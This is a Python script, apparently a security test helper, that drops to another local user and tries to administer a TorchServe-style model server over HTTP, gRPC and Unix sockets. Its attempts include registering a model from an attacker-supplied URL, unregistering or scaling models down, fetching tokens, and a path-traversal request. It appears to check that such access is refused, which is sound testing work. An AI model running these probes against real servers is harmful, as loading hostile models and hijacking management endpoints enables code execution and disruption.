"""A program: another user of this machine, who tries to manage a server by everything on which it listens.

It reads what to try from its standard input, gives up its own user for good, and prints what came of each attempt.
"""

from __future__ import annotations

import encodings.idna  # noqa: F401 - while it may still be read
import http.client
import json
import os
import socket
import sys
from typing import Any

import grpc
import grpc._channel  # what is imported late otherwise, by who may not read it any more

TIMEOUT_SECONDS = 10
GRPC = "/org.pytorch.serve.grpc"


def message(**fields: str | int) -> bytes:
    """A protobuf message; names end with their numbers, as in ``url_9``."""
    parts = b""
    for name, value in fields.items():
        number = int(name.rpartition("_")[2])
        if isinstance(value, int):
            parts += bytes([number << 3, value])
        else:
            parts += bytes([number << 3 | 2, len(value)]) + value.encode()
    return parts


def http_attempts(name: str, evil: str) -> list[tuple[str, str, str]]:
    registered = f"/models/{name}/1.0-g0"
    change = json.dumps({"name": name, "version": "1.0", "user": "nobody", "host": "x"})
    return [
        ("POST", f"/models?url={evil}&initial_workers=1&synchronous=true", ""),
        ("PUT", f"{registered}?min_worker=0&synchronous=true", ""),
        ("PUT", f"{registered}/set-default", ""),
        ("DELETE", registered, ""),
        ("DELETE", f"/models/{name}", ""),
        ("GET", f"{registered}?customized=true", ""),
        ("GET", "/token", ""),
        ("GET", "/plan", ""),
        *[("POST", f"/changes/{kind}", change) for kind in ("retire", "swap", "apply", "scale")],
        ("POST", f"/predictions/../models?url={evil}", ""),
    ]


def grpc_attempts(name: str, evil: str) -> list[tuple[str, bytes]]:
    management = f"{GRPC}.management.ManagementAPIsService"
    return [
        (f"{management}/ListModels", message(limit_1=10)),
        (f"{management}/DescribeModel", message(model_name_1=name)),
        (
            f"{management}/RegisterModel",
            message(initial_workers_3=1, model_name_5="evil", synchronous_8=1, url_9=evil),
        ),
        (f"{management}/ScaleWorker", message(model_name_1=name, min_worker_5=0, synchronous_6=1)),
        (f"{management}/SetDefault", message(model_name_1=name, model_version_2="1.0-b8")),
        (f"{management}/UnregisterModel", message(model_name_1=name)),
        (f"{GRPC}.inference.InferenceAPIsService/Predictions", message(model_name_1=name)),
        (f"{GRPC}.inference.InferenceAPIsService/StreamPredictions", message(model_name_1=name)),
    ]


def ask(
    connection: http.client.HTTPConnection, attempt: tuple[str, str, str], token: str | None
) -> dict[str, Any]:
    method, path, body = attempt
    headers = {"authorization": f"Bearer {token}"} if token else {}
    try:
        connection.request(method, path, body=body, headers=headers)
        answer = connection.getresponse()
        return {"status": answer.status, "body": answer.read().decode(errors="replace")}
    except (OSError, http.client.HTTPException) as error:
        return {"error": repr(error)}
    finally:
        connection.close()


def call(address: str, method: str, request: bytes, token: str | None) -> dict[str, Any]:
    metadata = [("authorization", f"Bearer {token}")] if token else []
    with grpc.insecure_channel(address) as channel:
        try:
            if method.endswith("StreamPredictions"):
                answer = b"".join(
                    channel.unary_stream(method)(request, metadata=metadata, timeout=TIMEOUT_SECONDS)
                )
            else:
                answer = channel.unary_unary(method)(request, metadata=metadata, timeout=TIMEOUT_SECONDS)
        except grpc.RpcError as error:
            return {"error": error.code().name, "body": error.details() or ""}
    return {"status": 200, "body": answer.decode(errors="replace")}


def connect(path: str) -> dict[str, Any]:
    with socket.socket(socket.AF_UNIX, socket.SOCK_STREAM) as connection:
        connection.settimeout(TIMEOUT_SECONDS)
        try:
            connection.connect("\0" + path[1:] if path.startswith("@") else path)
        except OSError as error:
            return {"error": type(error).__name__}
    return {"status": 200, "body": ""}


def main() -> None:
    wanted = json.load(sys.stdin)
    if wanted["user"] is not None:
        os.setgroups([])
        os.setresgid(*[wanted["user"]] * 3)
        os.setresuid(*[wanted["user"]] * 3)
    found = []
    for path in wanted["unix"]:
        found.append({"where": path, "what": "connect", "token": "none", **connect(path)})
    for host, port in wanted["tcp"]:
        for which, token in wanted["tokens"].items():
            told = {"where": f"{host}:{port}", "token": which}
            for attempt in http_attempts(wanted["name"], wanted["evil"]):
                connection = http.client.HTTPConnection(host, port, timeout=TIMEOUT_SECONDS)
                found.append(told | {"what": " ".join(attempt[:2])} | ask(connection, attempt, token))
            for method, request in grpc_attempts(wanted["name"], wanted["evil"]):
                address = f"[{host}]:{port}" if ":" in host else f"{host}:{port}"
                found.append(told | {"what": method} | call(address, method, request, token))
    json.dump({"user": os.getuid(), "attempts": found}, sys.stdout)


if __name__ == "__main__":
    main()
